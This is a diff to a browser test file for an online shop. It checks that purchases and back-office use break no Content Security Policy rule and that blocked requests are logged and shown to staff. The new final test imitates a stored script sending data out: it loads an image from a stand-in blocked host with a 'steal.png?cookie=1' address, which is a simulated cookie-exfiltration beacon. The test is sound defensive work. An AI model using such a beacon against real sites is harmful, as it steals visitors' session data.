@@ -5,6 +5,9 @@ import { newEmail } from "../support/shop-api.ts";
 import { expect, test } from "../support/staff.ts";
 import { adminWords, LOCALES, shopWords } from "../support/words.ts";
 
+/** Blocked on purpose by the last test, in the same shop. */
+const PROBE = "https://blocked-on-purpose.example";
+
 for (const locale of LOCALES)
   test(`a purchase in ${locale} breaks no rule of the page and logs no error`, async ({ page, shop }) => {
     const words = await shopWords(locale);
@@ -27,6 +30,8 @@ for (const locale of LOCALES)
     await page.getByRole("button", { name: APPROVE[locale] }).click({ timeout: 30_000 });
     await confirmedNumber(page, words);
     expect(complaints).toEqual([]);
+    // Nothing of anybody's purchase was reported either.
+    expect(await shop.db.cspReport.findMany({ where: { NOT: { blocked: PROBE } } })).toEqual([]);
   });
 
 test("a round through the back office breaks no rule of the page and logs no error", async ({
@@ -54,4 +59,27 @@ test("a round through the back office breaks no rule of the page and logs no err
   await page.getByRole("textbox", { name: m.editor.name, exact: true }).fill(`${goods.name} renamed`);
   await page.getByRole("button", { name: m.common.discard }).click();
   expect(complaints).toEqual([]);
+});
+
+test("what a browser blocks is reported by itself, and shown to staff", async ({ page, shop, actAs }) => {
+  const { m } = await adminWords("en");
+  const { slug } = await shop.make.product();
+  const path = `/en/p/${slug}`;
+  await page.goto(`${path}?utm_source=letter`);
+  // What a stored script would do: the picture's address carries off what it found.
+  await page.evaluate((address) => {
+    new Image().src = address;
+  }, `${PROBE}/steal.png?cookie=1`);
+  await expect.poll(() => shop.db.cspReport.count({ where: { page: path } })).toBe(1);
+  await actAs("ADMIN");
+  await page.goto("/admin");
+  await page
+    .getByRole("navigation", { name: m.shell.menu })
+    .getByRole("link", { name: m.shell.nav.blocked })
+    .click();
+  await expect(page.getByRole("heading", { level: 1, name: m.blocked.title })).toBeVisible();
+  const row = page.getByRole("row").filter({ hasText: path });
+  await expect(row).toContainText(PROBE);
+  await expect(row).toContainText("img-src");
+  await expect(row).not.toContainText("utm_source");
 });
